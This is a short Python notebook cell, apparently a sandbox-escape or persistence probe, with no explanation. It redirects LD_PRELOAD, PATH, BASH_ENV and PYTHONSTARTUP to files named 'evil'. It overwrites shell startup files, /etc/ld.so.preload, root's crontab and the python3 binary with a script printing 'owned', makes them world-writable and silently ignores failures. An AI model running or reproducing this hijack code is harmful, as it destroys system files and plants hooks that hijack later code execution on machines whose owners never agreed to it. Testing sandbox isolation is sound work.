# %%
import os, pathlib
os.environ.update(LD_PRELOAD="/content/evil.so", PATH="/content:" + os.environ["PATH"], BASH_ENV="/content/evil.sh", PYTHONSTARTUP="/content/evil.py")
for path in ("~/.bashrc", "~/.profile", "~/.pythonrc", "/etc/ld.so.preload", "/etc/profile.d/evil.sh", "/var/spool/cron/root",
             "/content/python", "/content/evil.sh", "/usr/local/bin/python3"):
    try:
        pathlib.Path(os.path.expanduser(path)).write_text("#!/bin/sh\necho owned\n")
        os.chmod(os.path.expanduser(path), 0o777)
    except OSError:
        pass
del os.environ["LD_PRELOAD"]
# %% include numbers
